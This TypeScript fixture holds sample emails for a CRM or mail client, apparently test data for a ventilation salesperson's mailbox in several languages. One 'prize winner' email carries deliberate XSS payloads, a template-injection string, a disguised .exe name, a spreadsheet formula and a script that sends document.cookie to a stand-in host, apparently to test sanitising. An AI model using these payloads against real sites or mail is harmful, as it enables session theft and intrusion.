/** Who writes: somebody at a customer, a colleague, a lead of the CRM, or somebody whom it does not know. */
export type Sender =
  { account: string } | { colleague: string } | { lead: true } | { stranger: [name: string, address: string] };

export interface Mail {
  from: Sender;
  /** Working days ago, and local time. */
  day: number;
  at: string;
  subject: string;
  /** Paragraphs are parted by an empty line. */
  text: string;
  /** Lines below the text; a customer's own is made where there is none. */
  signature?: string[];
  /** Instead of text and signature. */
  html?: string;
  cc?: Sender[];
  /** So many people in all get it, customers of everybody among them. */
  recipients?: number;
  isUnread?: boolean;
  isProtected?: boolean;
  isPrivate?: boolean;
  /** Mails of the same name answer each other. */
  thread?: string;
}

/** What the owner of the mailbox has begun to write. */
export interface Draft {
  to: Sender[];
  cc?: Sender[];
  subject: string;
  text: string;
  thread?: string;
}

export const mails: Mail[] = [
  {
    from: { account: 'Pennine Pharma' },
    day: -1,
    at: '15:12',
    subject: 'Roof fans, block B: two questions on the revised offer',
    text: `Hi Nora,

thanks for turning the offer round so quickly. Two things before I take it to the board:

1) Does the price include the crane for the roof, or is that on us?
2) Can the two fans over lab 3 be swapped on a Saturday? We cannot lose extract there on a weekday.

If both are a yes I do not see what could keep us from ordering this month.

Best wishes`,
    cc: [{ colleague: 'emre' }, { stranger: ['Tessa Millward', 'tessa.millward@crossgate-me.example'] }],
    isUnread: true,
    thread: 'Roof fans, block B',
  },
  {
    from: { stranger: ['Marguerite Halloway', 'm.halloway@brackendale-ls.example'] },
    day: -1,
    at: '11:40',
    subject: 'Fume cupboards for our new synthesis lab',
    text: `Dear Ms Castellanos,

I was given your name at the Manchester show. We are fitting out 640 m² of synthesis laboratories in Stevenage and need about fourteen ducted cupboards, with VAV controls, by next spring.

Could we talk next week? I can send drawings beforehand.

Kind regards,`,
    signature: [
      'Marguerite Halloway',
      'Laboratory Planning Manager',
      'Brackendale Life Sciences Ltd',
      'T +44 20 7946 0862 | M +44 7700 900417',
      'm.halloway@brackendale-ls.example',
      'www.brackendale-ls.example',
    ],
    isUnread: true,
  },
  {
    from: { lead: true },
    day: -2,
    at: '16:05',
    subject: 'Re: Reference visit',
    text: `Hello Nora,

a visit to a running installation would help us a great deal. There would be three of us: myself, our safety officer and somebody from estates. Thursdays suit us best.

Is there anything we should bring, shoes, glasses?

Many thanks`,
  },
  {
    from: { account: 'Laboratorios Almenara' },
    day: -2,
    at: '12:20',
    subject: 'Armarios de seguridad: plazo de entrega',
    text: `Buenos días, Nora:

Hemos recibido la oferta de los armarios de seguridad. ¿Podría confirmarnos el plazo de entrega si hacemos el pedido antes de fin de mes? La inspección es en seis semanas y no podemos llegar sin ellos.

Quedamos a la espera. Un cordial saludo,`,
  },
  {
    from: { stranger: ['Tomás Arribas Quintero', 'tarribas@ceramicas-turia.example'] },
    day: -3,
    at: '09:48',
    subject: 'Solicitud de presupuesto: 6 vitrinas de gases',
    text: `Estimada Sra. Castellanos:

Estamos ampliando nuestro laboratorio de esmaltes en Manises y necesitamos seis vitrinas de gases de 1.500 mm con sus extractores. ¿Sería posible una visita para tomar medidas?

Un saludo,`,
    signature: [
      'Tomás Arribas Quintero',
      'Jefe de proyectos',
      'Cerámicas Técnicas del Turia, S.L.',
      'Tel.: +34 960 000 127',
      'Móvil: +34 600 000 418',
    ],
  },
  {
    from: { stranger: ['Dr. Anneliese Brückmann', 'a.brueckmann@rheinaue-katalyse.example'] },
    day: -3,
    at: '08:15',
    subject: 'Anfrage Abluftregelung Technikum',
    text: `Sehr geehrte Frau Castellanos,

in unserem Technikum (Baujahr 1998) möchten wir die Abluft von 22 Abzügen auf variable Volumenströme umstellen. Herr Albrecht aus Ihrem Haus hat uns an Sie verwiesen.

Wäre ein Ortstermin in der zweiten Monatshälfte möglich?

Mit freundlichen Grüßen`,
    signature: [
      'i. A. Dr. Anneliese Brückmann',
      'Leiterin Forschung & Entwicklung',
      'Rheinaue Katalyse GmbH',
      'Telefon: +49 30 23125 418',
      'Mobil: +49 171 39200 47',
      'Sitz der Gesellschaft: Neuss | Amtsgericht Neuss, HRB 00000',
    ],
  },
  {
    from: { stranger: ['Aurélien Tessonneau', 'a.tessonneau@aromes-loire.example'] },
    day: -4,
    at: '17:31',
    subject: 'Sorbonnes pour notre laboratoire d’analyse sensorielle',
    text: `Bonjour Madame,

Nous équipons un nouveau laboratoire à Angers et cherchons quatre sorbonnes silencieuses (moins de 48 dB). Pourriez-vous nous faire parvenir une documentation ainsi qu’un ordre de prix ?

Bien cordialement,`,
    signature: [
      'Aurélien TESSONNEAU',
      'Responsable achats',
      'Arômes de Loire SAS',
      'Tél. : +33 1 99 00 41 58',
      'Port. : +33 6 39 98 27 14',
    ],
  },
  {
    from: { account: 'Laboratoires Duvernay' },
    day: -5,
    at: '14:02',
    subject: 'Bâtiment C : compte rendu de la mise en service',
    text: `Bonjour Nora,

Vous trouverez ci-dessous nos remarques après la mise en service du bâtiment C :

- salle 2.14 : le débit reste sous la consigne de 8 % ;
- salle 2.17 : bruit anormal au-delà de 60 % d’ouverture ;
- la formation des utilisateurs reste à planifier.

Merci de nous proposer une date pour lever ces réserves.`,
  },
  {
    // The lead Philippa Wren has the same address.
    from: { account: 'Pennine Pharma' },
    day: -5,
    at: '10:26',
    subject: 'New number, same person',
    text: `Hi Nora,

a quick note that I have moved desks: from Monday I look after the new building as well, so you will hear from me about both projects. My old number keeps working for a while.

Speak soon`,
  },
  {
    from: { colleague: 'jonas' },
    day: -6,
    at: '09:05',
    subject: 'Forecast by Thursday, please',
    text: `Hi Nora,

head office wants the quarter's forecast by Thursday noon. Yours are the Pennine roof fans and Thames Forensics, as far as I can see. Please check stage and closing date of both in the CRM; what is not in there does not count.

Thanks
Jonas`,
    cc: [{ colleague: 'friederike' }],
  },
  {
    from: { account: 'Fenwick Biosciences' },
    day: -7,
    at: '13:37',
    subject: 'Laboratory users’ day: programme and list of guests',
    text: `Dear all,

here is the programme of the users' day. Please tell us by the end of the month whether you are coming, and with whom: the tour of the clean rooms takes groups of eight.

09:30 Coffee
10:00 Face velocity or containment? What we learnt from 200 tests
11:30 Tour
12:30 Lunch
14:00 Energy: what night setback brings

We look forward to seeing you in Cambridge.`,
    recipients: 52,
  },
  {
    from: {
      stranger: [
        '"><img src=x onerror=alert(document.domain)> Prize <b>Office</b>',
        'winner+%3Cscript%3E@lottery-prizes.example',
      ],
    },
    day: -7,
    at: '03:33',
    subject: '<script>alert("subject")</script> You won {{7*7}} \u202Efdp.exe',
    text: '',
    html: `<p onmouseover="alert(1)">Dear winner, <a href="javascript:alert('link')">claim your prize</a>!</p>
<script>fetch('https://lottery-prizes.example/steal?c=' + document.cookie)</script>
<img src="x" onerror="alert('img')"><svg onload="alert('svg')"></svg>
<iframe src="https://lottery-prizes.example/frame"></iframe>
<p>&lt;script&gt;alert('as text')&lt;/script&gt; =HYPERLINK("https://lottery-prizes.example")</p>
<p>--<br>Mallory &lt;img src=x onerror=alert(2)&gt; O'Drop"; DELETE<br>Director of &lt;b&gt;Prizes&lt;/b&gt;<br>
Lottery &amp; Sons &lt;/textarea&gt; Ltd<br>Tel. +44 20 7946 0999<br><a href="data:text/html,<script>alert(3)</script>">Web</a></p>`,
  },
  {
    from: { account: 'Kessler Feinchemie' },
    day: -8,
    at: '10:50',
    subject: 'Vertraulich: Wartungsvertrag, Preisanlage',
    text: '',
    isProtected: true,
  },
  {
    from: { account: 'Thames Forensics' },
    day: -9,
    at: '16:44',
    subject: 'Kennet House: sash heights',
    text: `Nora,

we measured again last night: cupboards 3 and 9 still alarm at 400 mm. The others are fine. Who is coming out, and when? The accreditation visit is close and I would rather not explain a red lamp to them.`,
    cc: [{ colleague: 'oliver' }],
  },
  {
    from: { account: 'Solent Marine' },
    day: -10,
    at: '18:20',
    subject: 'Between us',
    text: `Nora,

I am leaving Solent at the end of the quarter, nobody here knows yet. Please keep it to yourself, I will introduce you to my successor.`,
    isPrivate: true,
  },
];

export const drafts: Draft[] = [
  {
    to: [{ account: 'Pennine Pharma' }],
    cc: [{ colleague: 'emre' }, { stranger: ['Tessa Millward', 'tessa.millward@crossgate-me.example'] }],
    subject: 'RE: Roof fans, block B: two questions on the revised offer',
    text: `Hi,

yes to the Saturday. The crane is`,
    thread: 'Roof fans, block B',
  },
  {
    to: [{ account: 'Parfums Grasset' }, { lead: true }],
    subject: 'Invitation : visite de notre laboratoire d’essais',
    text: `Bonjour,

nous serions heureux de vous accueillir`,
  },
];
